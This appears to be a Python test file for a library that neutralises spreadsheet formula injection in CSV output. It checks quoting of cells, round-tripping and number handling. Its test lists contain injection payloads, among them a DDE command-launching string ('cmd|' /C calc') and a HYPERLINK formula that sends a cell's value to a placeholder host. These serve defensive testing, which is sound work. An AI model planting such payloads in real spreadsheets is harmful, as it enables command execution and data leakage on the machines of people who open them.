"""No text in a file of ours is run by a spreadsheet; each comes back as it was."""

from __future__ import annotations

import csv
import io
from pathlib import Path

import pandas as pd
import pyarrow as pa
import pytest
from hypothesis import example, given
from hypothesis import strategies as st

from fpanon_core.io.questionnaire import questionnaire_template, read_questionnaire
from fpanon_core.tables.leaving import defused, defused_column, restored
from fpanon_core.tables.writing import table_bytes, write_table
from fpanon_core.verification.records import without_marks

RUN = [
    *("=1+1", "+1+1", "-1+1", "@SUM(1)", "＝1+1", "＋1", "－1", "＠SUM(1)"),
    '=HYPERLINK("http://a.example/?"&A1)',
    *("\t=1", "\r=1", "\n=1", "\tplain", "\rplain", "\nplain"),
    *(" =1", "\u00a0=1", "\u3000=1", "\ufeff=1", "\u200b=1", "\x00=1", "\x0b=1"),
    *('"=1', "'=1", "''=1", ' "=1', "“=1"),
    *("-5+cmd|' /C calc'!A0", "-2-3", "+", "-", "=", "-5 +1", "-5;=1", "+49 151 5", "-1e5x"),
]
NUMBERS = ["-5", "+5", "-5.25", "-5,25", "-1e-5", "+41791234567", " -5 ", "+02:00", "-.5", "5"]
WORDS = ["", "a", "a=b", "u-1", "me@home", "2.5 km · 1 h", "2024-03-04T10:00:00+01:00", "it's", "'"]
SIGNS = "=+-@＝＋－＠"
# What can stand before the sign that a spreadsheet looks for.
PASSED = ' \t\r\n\x00\x0b\u00a0\u3000\ufeff\u200b"`´‘’“”«»'
ALPHABET = st.text(st.sampled_from([*SIGNS, *PASSED, *"';,|", *"a5.e"]), max_size=12)


@pytest.mark.parametrize("text", RUN)
def test_what_would_be_run_is_marked(text: str) -> None:
    assert defused(text)[0] == "'"
    assert restored(defused(text)) == text


@pytest.mark.parametrize("text", NUMBERS + WORDS)
def test_numbers_and_words_are_left_as_they_are(text: str) -> None:
    assert defused(text) == text


@pytest.mark.parametrize("mark", list(";,|\t\r\n"))
def test_nor_is_what_begins_a_cell_in_another_country(mark: str) -> None:
    """German spreadsheets part cells at ";", whatever is quoted behind a ","."""
    assert defused(f"a{mark}=1") == f"a{mark}'=1"
    assert defused(f'a{mark} "=1') == f"a{mark} \"'=1"


@given(st.one_of(st.text(), ALPHABET))
@example("'\t=1")
@example("';=1")
@example("a;''=1")
def test_each_text_comes_back(text: str) -> None:
    marked = defused(text)
    assert restored(marked) == text
    # The verifier has a reading of its own, and no number is among what it takes marks off.
    assert without_marks(marked) == text


@given(ALPHABET)
def test_no_cell_begins_a_formula_however_cells_are_parted(text: str) -> None:
    """The oracle: cut at any of the breaks, pass over what may be passed over, look."""
    marked = defused(text)
    if marked == text and _is_number(text):
        return
    for breaks in ("", ";", ",", "|", "\t", "\r\n", ";,|\t\r\n"):
        cells = [marked]
        for each in breaks:
            cells = [part for cell in cells for part in cell.split(each)]
        for cell in cells:
            assert not cell.strip(PASSED)[:1] or cell.lstrip(PASSED)[0] not in SIGNS


def _is_number(text: str) -> bool:
    digits = text.strip(" ").removeprefix("+").removeprefix("-")
    return bool(digits) and set(digits) <= set("0123456789.,:e+-") and digits[-1].isdigit()


@given(st.lists(st.one_of(st.none(), ALPHABET), max_size=8))
def test_a_column_is_marked_like_its_texts(texts: list[str | None]) -> None:
    wanted = [None if text is None else defused(text) for text in texts]
    for kind in (pa.string(), pa.large_string()):
        assert defused_column(pa.array(texts, kind)).to_pylist() == wanted
        chunks = pa.chunked_array([pa.array(texts[:3], kind), pa.array(texts[3:], kind)])
        assert defused_column(chunks).to_pylist() == wanted


def test_time_grows_with_the_length_alone() -> None:
    """Two hundred thousand blanks: in quadratic time, hours."""
    for text in ("\t" * 200_000, "\t" * 200_000 + "=", ";" * 200_000 + "-5", "=;" * 100_000):
        assert restored(defused(text)) == without_marks(defused(text)) == text


@pytest.mark.parametrize("ending", [".csv", ".csv.gz"])
def test_files_hold_no_formula_neither_in_cells_nor_in_heads(tmp_path: Path, ending: str) -> None:
    path = tmp_path / f"t{ending}"
    cells = [*RUN, *NUMBERS, *WORDS]
    numbers = [float(-i) for i in range(len(cells))]
    frame = pd.DataFrame({"=cmd|a": cells, "@n": numbers, "-k": pd.Categorical(cells)})
    write_table([frame[:5], frame[5:]], path)
    back = pd.read_csv(path, dtype=str, keep_default_na=False, na_filter=False)
    assert list(back) == ["'=cmd|a", "'@n", "'-k"]
    assert back["'@n"].astype(float).tolist() == numbers  # numbers stay numbers
    for name in ("'=cmd|a", "'-k"):
        assert [text for text in back[name][: len(RUN)] if text[0] != "'"] == []
    assert sorted(map(restored, back["'-k"])) == sorted(cells)
    content = table_bytes([frame], ".parquet")  # in which texts stay as they are
    assert pd.read_parquet(io.BytesIO(content))["=cmd|a"].tolist() == cells


def test_the_experts_template_runs_nothing_and_comes_back() -> None:
    names = ["=1+1", "-1 km", "a;@b", "plain"]
    template = questionnaire_template(names, ["transport"], ["+A", "B"])
    text = table_bytes([template], ".csv").decode()
    for row in csv.reader(io.StringIO(text)):
        assert all(cell[:1] not in SIGNS or not cell for cell in row)
    filled = pd.read_csv(io.StringIO(text), dtype={"score": float}).assign(score=5.0)
    used = read_questionnaire(filled, options=names, domains=["transport"])
    assert used["option"].tolist() == names * 2
    assert used["expert"].tolist() == ["+A"] * 4 + ["B"] * 4
